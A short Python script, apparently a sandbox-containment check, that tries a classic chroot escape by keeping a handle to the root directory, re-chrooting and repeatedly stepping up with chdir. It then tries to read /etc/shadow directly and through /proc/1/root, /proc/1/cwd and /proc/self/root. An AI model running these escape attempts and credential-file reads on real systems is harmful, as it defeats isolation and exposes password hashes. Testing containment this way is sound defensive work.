import os

root = os.open("/", os.O_PATH)
os.makedirs("jail", exist_ok=True)
for act in (lambda: os.chroot("jail"), lambda: os.chroot(".")):
    try:
        act()
        print("escaped: chroot")
    except OSError:
        pass
os.chdir("/")
for _ in range(100):
    os.chdir("..")
if os.stat(".").st_ino != os.fstat(root).st_ino or os.path.exists("etc/shadow") and os.access("etc/shadow", os.R_OK):
    print("escaped: above")
for path in ("/proc/1/root/etc/shadow", "/proc/1/cwd/etc/shadow", "/proc/self/root/etc/shadow"):
    try:
        open(path).read()
        print("escaped: read", path)
    except OSError:
        pass
print("held")
